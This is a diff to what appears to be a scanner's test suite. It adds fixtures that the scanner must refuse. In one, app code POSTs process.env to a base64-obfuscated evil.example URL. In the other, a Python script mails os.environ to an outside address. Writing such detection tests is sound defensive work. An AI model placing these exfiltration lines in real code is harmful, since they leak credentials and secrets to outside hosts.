@@ -280,6 +280,16 @@ describe('scanned languages: what the added code reaches besides processes (fift
       'tests/test_runpy.py',
       "import runpy\nrunpy.run_path('/tmp/x.py')\n",
     ],
+    [
+      'app code posting the environment to a decoded URL',
+      'src/telemetry.ts',
+      "await fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'), { method: 'POST', body: JSON.stringify(process.env) });\n",
+    ],
+    [
+      'app code mailing the environment',
+      'app/report.py',
+      "import smtplib, os\ns = smtplib.SMTP('mail.example.net')\ns.sendmail('a@x', ['b@collect.example.net'], str(os.environ))\n",
+    ],
   ])('%s is not allowed', async (_name, file, text) => {
     const d = await write(file, text);
     expect(d.decision.verdict, d.decision.reason).not.toBe('allow');
